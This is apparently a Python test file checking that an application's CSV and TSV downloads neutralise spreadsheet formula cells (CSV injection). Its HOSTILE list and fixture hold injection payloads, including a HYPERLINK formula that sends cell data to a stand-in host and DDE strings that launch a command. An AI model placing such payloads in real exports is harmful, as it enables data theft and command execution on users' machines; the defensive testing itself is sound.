"""Every CSV (and TSV) download neutralises cells that a spreadsheet would run as a formula
(OWASP "CSV injection"): the test walks every GET route of the application, fills in a dataset
whose texts start with = + - @ tab and CR, and checks each table it gets back."""

from __future__ import annotations

import csv
import io
import re

import pytest

from core.files import FORMULA_TRIGGERS
from core.models import Role

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TABLES = {"text/csv": ",", "text/tab-separated-values": "\t"}
# the downloads this walk must meet (a route that stops answering a table fails the test)
EXPECTED = {
    "/api/v1/stats.csv",
    "/api/v1/datasets/<identifier>/dictionary.csv",
    "/api/v1/dictionary-template.csv",
    "/api/v1/datasets/<identifier>/mappings.sssom.tsv",
    "/api/v1/mappings.sssom.tsv",
    "/datasets/<identifier>/data-template.csv",
}


@pytest.fixture
def world(make, vocabularies):
    organisation = make.organisation(name="=cmd|' /C calc'!A0 Hospital")
    variables = [
        {"name": f"v{i}", "label": text, "description": text, "mappings": ["NCIT:C3171"]}
        for i, text in enumerate(HOSTILE)
    ]
    identifier = make.dataset(organisation, publish=True, variables=variables)
    admin = make.user(Role.ADMIN)
    return identifier, {"Authorization": f"Bearer {make.token(admin)}"}


def _cells(text: str, delimiter: str) -> list[list[str]]:
    lines = [line for line in text.lstrip("\ufeff").split("\n") if not line.startswith("#")]
    return list(csv.reader(io.StringIO("\n".join(lines), newline=""), delimiter=delimiter))


def test_every_csv_download_neutralises_formula_cells(app, client, world):
    identifier, headers = world
    seen: set[str] = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()):
            continue
        arguments = set(rule.arguments)
        if arguments - {"identifier"}:
            continue
        path = re.sub(r"<(?:[^:>]+:)?identifier>", identifier, rule.rule)
        response = client.get(path, headers=headers)
        body = response.get_data()  # a streamed body is read and closed
        response.close()
        delimiter = TABLES.get(response.mimetype)
        if response.status_code != 200 or delimiter is None:
            continue
        seen.add(rule.rule)
        for row in _cells(body.decode(), delimiter):
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), (rule.rule, cell)
    assert seen >= EXPECTED, EXPECTED - seen


def test_the_hostile_texts_are_still_there_after_the_mark(client, world):
    identifier, headers = world
    response = client.get(f"/api/v1/datasets/{identifier}/dictionary.csv", headers=headers)
    rows = _cells(response.get_data(as_text=True), ",")
    labels = {row[0]: row[1] for row in rows[1:]}
    assert labels["v0"] == "'" + HOSTILE[0]
    assert labels["v2"] == "'-2+3"


def test_counts_in_the_statistics_stay_numbers(client, world):
    _identifier, headers = world
    rows = _cells(client.get("/api/v1/stats.csv", headers=headers).get_data(as_text=True), ",")
    total = next(row for row in rows if row[0] == "total")
    assert total[3].isdigit() and total[4].lstrip("<").isdigit()
    custodian = next(row for row in rows if row[0] == "custodian" and "Hospital" in row[2])
    assert custodian[2].startswith("'=cmd")
